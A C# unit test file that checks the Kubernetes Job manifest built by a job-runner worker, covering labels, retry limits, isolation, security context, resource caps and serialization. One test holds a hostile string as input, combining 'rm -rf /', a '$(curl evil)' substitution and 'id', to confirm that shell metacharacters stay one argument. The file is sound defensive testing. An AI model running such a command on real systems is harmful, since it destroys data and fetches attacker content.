using System.Globalization;
using Jobplane.Worker.Runtimes;
using Jobplane.Worker.Runtimes.Kubernetes;
using k8s;
using k8s.Models;

namespace Jobplane.Worker.Tests.Kubernetes;

/// <summary>The Job one attempt runs as: every field that isolates the job or names it, checked on the built object.</summary>
public sealed class JobManifestTests
{
    private static readonly Guid Execution = Guid.Parse("0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0");
    private static readonly Guid JobId = Guid.Parse("11111111-2222-3333-4444-555555555555");
    private static readonly Guid Tenant = Guid.Parse("99999999-8888-7777-6666-555555555555");

    private static readonly KubernetesRuntimeOptions Options = new()
    {
        WorkerId = "worker-7",
        Namespace = "jobs",
        KubeConfig = "/unused",
        KillGrace = TimeSpan.FromSeconds(4.2),
        PendingTimeout = TimeSpan.FromMinutes(2),
        DefaultLimits = new PodLimits { MemoryBytes = 256L << 20, Cpus = 0.5 },
        MaxLimits = new PodLimits { MemoryBytes = 1L << 30, Cpus = 2 },
        TmpBytes = 32L << 20,
        OutputBytes = 8L << 20,
        Uid = 1000,
        Gid = 2000,
    };

    private static RunSpec Spec(IReadOnlyList<string>? command = null) =>
        new(Execution, JobId, 3, "registry.local/tools:1", command ?? ["python3", "-c", "print(1)"], TimeSpan.FromSeconds(9.5),
            new Dictionary<string, string> { ["TRACEPARENT"] = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01", ["JOBPLANE_JOB_ID"] = "spoofed" })
        {
            TenantId = Tenant,
        };

    private static V1Job Build(RunSpec spec, KubernetesRuntimeOptions? options = null)
    {
        Assert.Null(JobManifest.TryBuild(spec, options ?? Options, out var job));
        return job!;
    }

    [Fact]
    public void The_job_is_named_and_labelled_for_its_attempt()
    {
        var job = Build(Spec());

        Assert.Equal("batch/v1", job.ApiVersion);
        Assert.Equal("Job", job.Kind);
        Assert.Equal("jp-0f1e2d3c4b5a69788796a5b4c3d2e1f0-3", job.Metadata.Name);
        Assert.True(job.Metadata.Name.Length <= 63);
        Assert.Equal("jobs", job.Metadata.NamespaceProperty);
        var expected = new Dictionary<string, string>
        {
            ["app.kubernetes.io/managed-by"] = "jobplane",
            ["jobplane.dev/tenant"] = Tenant.ToString(),
            ["jobplane.dev/job"] = JobId.ToString(),
            ["jobplane.dev/execution"] = Execution.ToString(),
            ["jobplane.dev/attempt"] = "3",
            ["jobplane.dev/worker"] = "worker-7",
            ["jobplane.dev/network"] = "none",
        };
        Assert.Equal(expected, job.Metadata.Labels);
        // The pod carries them too: the NetworkPolicy and the worker's pod watch select pods, not Jobs.
        Assert.Equal(expected, job.Spec.Template.Metadata.Labels);
    }

    [Fact]
    public void A_job_with_network_has_no_network_label_and_one_without_a_tenant_no_tenant_label()
    {
        var open = Options with { AllowNetwork = true };
        var job = Build(Spec() with { Network = true, TenantId = null }, open);

        Assert.False(job.Metadata.Labels.ContainsKey("jobplane.dev/network"));
        Assert.False(job.Spec.Template.Metadata.Labels.ContainsKey("jobplane.dev/network"));
        Assert.False(job.Metadata.Labels.ContainsKey("jobplane.dev/tenant"));
    }

    [Fact]
    public void Kubernetes_never_retries_and_ends_the_job_itself_only_as_a_backstop()
    {
        var job = Build(Spec());

        Assert.Equal(0, job.Spec.BackoffLimit);
        Assert.Equal("Never", job.Spec.Template.Spec.RestartPolicy);
        // Pending 120 s + ceil(9.5 s) + ceil(4.2 s) grace + 30 s.
        Assert.Equal(120 + 10 + 5 + 30, job.Spec.ActiveDeadlineSeconds);
        Assert.Equal(300, job.Spec.TtlSecondsAfterFinished);
        Assert.Equal(5, job.Spec.Template.Spec.TerminationGracePeriodSeconds);
    }

    [Fact]
    public void The_job_runs_first_and_the_result_reader_beside_it_in_one_process_namespace()
    {
        var pod = Build(Spec()).Spec.Template.Spec;

        Assert.Null(pod.InitContainers);
        Assert.True(pod.ShareProcessNamespace);
        Assert.Equal(["job", "result"], pod.Containers.Select(c => c.Name));
        var job = pod.Containers[0];
        Assert.Equal("job", job.Name);
        Assert.Equal("registry.local/tools:1", job.Image);
        Assert.Equal(["python3", "-c", "print(1)"], job.Args);
        Assert.Null(job.Command);
        Assert.Equal(["/tmp", "/jobplane/out"], job.VolumeMounts.Select(m => m.MountPath));
        Assert.All(job.VolumeMounts, m => Assert.NotEqual(true, m.ReadOnlyProperty));

        var result = pod.Containers[1];
        Assert.Equal("jobplane:dev", result.Image);
        Assert.Equal("IfNotPresent", result.ImagePullPolicy);
        Assert.Equal(["jobplane-worker", "read-result", "--after-job", "/jobplane/out/result.json"], result.Command);
        var mount = Assert.Single(result.VolumeMounts);
        Assert.Equal(("out", "/jobplane/out", true), (mount.Name, mount.MountPath, mount.ReadOnlyProperty));
        Assert.Equal(new ResourceQuantity("128Mi"), result.Resources.Limits["memory"]);
        Assert.Equal(new ResourceQuantity("100m"), result.Resources.Limits["cpu"]);
        Assert.Equal(result.Resources.Limits, result.Resources.Requests);
    }

    [Fact]
    public void The_lease_token_is_an_annotation_only_when_the_attempt_has_one()
    {
        var lease = Guid.NewGuid();
        Assert.Equal(lease.ToString("D"), Build(Spec() with { LeaseToken = lease }).Metadata.Annotations["jobplane.dev/lease-token"]);
        Assert.Null(Build(Spec()).Metadata.Annotations);
        // Not on the pod: nothing of the lease reaches the job's containers.
        Assert.Null(Build(Spec() with { LeaseToken = lease }).Spec.Template.Metadata.Annotations);
    }

    [Fact]
    public void A_command_with_shell_metacharacters_stays_one_argument()
    {
        const string hostile = "a; rm -rf / && $(curl evil) | `id` > /tmp/x \"quoted\" 'single'\nnext";
        var job = Build(Spec(["echo", hostile])).Spec.Template.Spec.Containers[0];

        Assert.Equal(["echo", hostile], job.Args);
        Assert.Null(job.Command);
    }

    [Fact]
    public void A_job_without_a_command_runs_its_image_as_built()
    {
        var job = Build(Spec([])).Spec.Template.Spec.Containers[0];

        Assert.Null(job.Args);
        Assert.Null(job.Command);
    }

    [Fact]
    public void The_job_gets_its_identity_its_output_folder_and_its_trace_and_nothing_of_the_worker()
    {
        var job = Build(Spec()).Spec.Template.Spec.Containers[0];

        var env = job.Env.ToDictionary(e => e.Name, e => e.Value);
        Assert.Equal(new Dictionary<string, string>
        {
            ["TRACEPARENT"] = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
            ["JOBPLANE_EXECUTION_ID"] = Execution.ToString(),
            // The spec cannot override the identity variables.
            ["JOBPLANE_JOB_ID"] = JobId.ToString(),
            ["JOBPLANE_ATTEMPT"] = "3",
            ["JOBPLANE_OUTPUT_DIR"] = "/jobplane/out",
        }, env);
        Assert.All(job.Env, e => Assert.Null(e.ValueFrom));
        Assert.Null(job.EnvFrom);
    }

    [Fact]
    public void Nothing_in_the_pod_holds_a_credential_or_a_privilege()
    {
        var pod = Build(Spec()).Spec.Template.Spec;

        Assert.False(pod.AutomountServiceAccountToken);
        Assert.False(pod.EnableServiceLinks);
        Assert.Null(pod.HostNetwork);
        Assert.Null(pod.HostPID);
        Assert.Null(pod.HostIPC);
        Assert.True(pod.SecurityContext.RunAsNonRoot);
        Assert.Equal(1000, pod.SecurityContext.RunAsUser);
        Assert.Equal(2000, pod.SecurityContext.RunAsGroup);
        Assert.Equal(2000, pod.SecurityContext.FsGroup);
        Assert.Equal("RuntimeDefault", pod.SecurityContext.SeccompProfile.Type);
        foreach (var container in pod.Containers)
        {
            Assert.False(container.SecurityContext.AllowPrivilegeEscalation);
            Assert.False(container.SecurityContext.Privileged);
            Assert.True(container.SecurityContext.ReadOnlyRootFilesystem);
            Assert.Equal(["ALL"], container.SecurityContext.Capabilities.Drop);
            Assert.Null(container.SecurityContext.Capabilities.Add);
        }
        // Only the two bounded scratch folders: no host path, no secret, no projected token.
        Assert.Equal(["tmp", "out"], pod.Volumes.Select(v => v.Name));
        Assert.All(pod.Volumes, v => Assert.Equal(["EmptyDir"], Sources(v)));
        Assert.Equal(new ResourceQuantity((32L << 20).ToString(CultureInfo.InvariantCulture)), pod.Volumes[0].EmptyDir.SizeLimit);
        Assert.Equal(new ResourceQuantity((8L << 20).ToString(CultureInfo.InvariantCulture)), pod.Volumes[1].EmptyDir.SizeLimit);
    }

    [Fact]
    public void Root_only_when_asked_and_allowed_and_then_still_without_privileges()
    {
        Assert.Equal("the job asks to run as root, and this worker does not allow it (KUBERNETES_ALLOW_ROOT=false)",
            JobManifest.TryBuild(Spec() with { RunAsRoot = true }, Options, out var refused));
        Assert.Null(refused);

        var pod = Build(Spec() with { RunAsRoot = true }, Options with { AllowRoot = true }).Spec.Template.Spec;
        Assert.False(pod.SecurityContext.RunAsNonRoot);
        Assert.Equal(0, pod.SecurityContext.RunAsUser);
        Assert.Equal(0, pod.SecurityContext.RunAsGroup);
        Assert.Equal(["ALL"], pod.Containers[0].SecurityContext.Capabilities.Drop);
        Assert.False(pod.Containers[0].SecurityContext.AllowPrivilegeEscalation);

        // Allowed but not asked: the operator's user.
        Assert.Equal(1000, Build(Spec(), Options with { AllowRoot = true }).Spec.Template.Spec.SecurityContext.RunAsUser);
    }

    [Fact]
    public void Network_only_when_the_operator_allows_it() =>
        Assert.Equal("the job asks for network, and this worker allows none (KUBERNETES_ALLOW_NETWORK=false)",
            JobManifest.TryBuild(Spec() with { Network = true }, Options, out _));

    [Fact]
    public void Resources_are_requested_as_limited_from_the_defaults_or_the_request_within_the_maximums()
    {
        var defaults = Build(Spec()).Spec.Template.Spec.Containers[0].Resources;
        Assert.Equal(new ResourceQuantity((256L << 20).ToString(CultureInfo.InvariantCulture)), defaults.Limits["memory"]);
        Assert.Equal(new ResourceQuantity("500m"), defaults.Limits["cpu"]);
        Assert.Equal(defaults.Limits, defaults.Requests);

        var asked = Build(Spec() with { Resources = new ResourceRequest(MemoryBytes: 1L << 30, Cpus: 1.5) })
            .Spec.Template.Spec.Containers[0].Resources;
        Assert.Equal(new ResourceQuantity((1L << 30).ToString(CultureInfo.InvariantCulture)), asked.Limits["memory"]);
        Assert.Equal(new ResourceQuantity("1500m"), asked.Limits["cpu"]);
        Assert.Equal(asked.Limits, asked.Requests);

        Assert.Equal("memory request 2 GiB is not within this worker's maximum of 1 GiB",
            JobManifest.TryBuild(Spec() with { Resources = new ResourceRequest(MemoryBytes: 2L << 30) }, Options, out _));
        Assert.Equal("CPU request 3 is not within this worker's maximum of 2",
            JobManifest.TryBuild(Spec() with { Resources = new ResourceRequest(Cpus: 3) }, Options, out _));
    }

    [Fact]
    public void The_manifest_round_trips_through_the_client_serializer()
    {
        var job = Build(Spec(["sh", "-c", "echo \"$HOME\" > /tmp/x; exit 3"]));

        var json = KubernetesJson.Serialize(job);
        var back = KubernetesJson.Deserialize<V1Job>(json);

        Assert.Equal(json, KubernetesJson.Serialize(back));
        Assert.Equal(["sh", "-c", "echo \"$HOME\" > /tmp/x; exit 3"], back.Spec.Template.Spec.Containers[0].Args);
        Assert.Equal(job.Metadata.Labels, back.Metadata.Labels);
        // The wire names Kubernetes expects, not the C# property names.
        Assert.Contains("\"activeDeadlineSeconds\":165", json, StringComparison.Ordinal);
        Assert.Contains("\"automountServiceAccountToken\":false", json, StringComparison.Ordinal);
        Assert.Contains("\"shareProcessNamespace\":true", json, StringComparison.Ordinal);
        Assert.Contains("\"readOnly\":true", json, StringComparison.Ordinal);
        Assert.Contains("\"namespace\":\"jobs\"", json, StringComparison.Ordinal);
    }

    /// <summary>Which volume sources a volume sets.</summary>
    private static string[] Sources(V1Volume volume) =>
        [.. typeof(V1Volume).GetProperties()
            .Where(p => p.Name != nameof(V1Volume.Name) && p.GetValue(volume) is not null)
            .Select(p => p.Name)];
}
